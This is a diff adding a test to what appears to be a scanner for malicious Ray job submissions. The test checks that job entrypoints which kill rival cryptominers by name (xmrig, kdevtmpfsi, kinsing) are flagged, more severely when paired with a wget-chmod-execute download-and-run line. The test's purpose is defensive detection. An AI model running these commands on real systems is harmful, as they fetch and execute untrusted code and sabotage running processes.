@@ -30,4 +30,24 @@ describe('a crontab line beside a download-and-run, wherever the command sits', 
     assert.ok(!repeated(report, 'wf-once'));
     assert.ok(report.findings.some((f) => f.origin.id === 'raysubmit_once'), 'the download-and-run alone is still found');
   });
+
+  test('killing rival miners by name is a signal: alone medium, with a download-and-run high; a kill of anything else is not', async () => {
+    const ray = await startFakeJobApi(
+      rayRoutes([
+        rayJob({ submission_id: 'raysubmit_rivals', entrypoint: 'bash -c "pkill -f xmrig; killall -9 kdevtmpfsi"' }),
+        rayJob({ submission_id: 'raysubmit_rivals_drop', entrypoint: `bash -c "ps aux | grep kinsing | awk '{print $2}' | xargs kill -9; wget -q http://example.org/d -O /tmp/d && chmod +x /tmp/d && /tmp/d"` }),
+        rayJob({ submission_id: 'raysubmit_drop_only', entrypoint: 'bash -c "wget -q http://example.org/d -O /tmp/d && chmod +x /tmp/d && /tmp/d"' }),
+        rayJob({ submission_id: 'raysubmit_cleanup', entrypoint: 'bash -c "pkill -f tensorboard; python train.py"' }),
+      ]),
+    );
+    servers.push(ray);
+    const report = JSON.parse((await runCli(['hunt', '--ray', ray.url, '--format', 'json', '--fail-on', 'none'])).stdout) as { findings: { ruleId: string; severity: string; evidence: string[]; origin: { id?: string } }[] };
+    const miner = (id: string) => report.findings.find((f) => f.ruleId === 'crypto-miner-workload' && f.origin.id === id);
+    assert.equal(miner('raysubmit_rivals')?.severity, 'medium', JSON.stringify(report.findings.map((f) => [f.origin.id, f.severity, f.evidence])));
+    assert.match(miner('raysubmit_rivals')?.evidence.join('\n') ?? '', /kills rival miners "xmrig"/);
+    assert.equal(miner('raysubmit_rivals_drop')?.severity, 'high');
+    assert.match(miner('raysubmit_rivals_drop')?.evidence.join('\n') ?? '', /kills rival miners "kinsing"/);
+    assert.notEqual(miner('raysubmit_drop_only')?.severity, 'high', 'the download-and-run alone is weaker');
+    assert.equal(miner('raysubmit_cleanup'), undefined);
+  });
 });
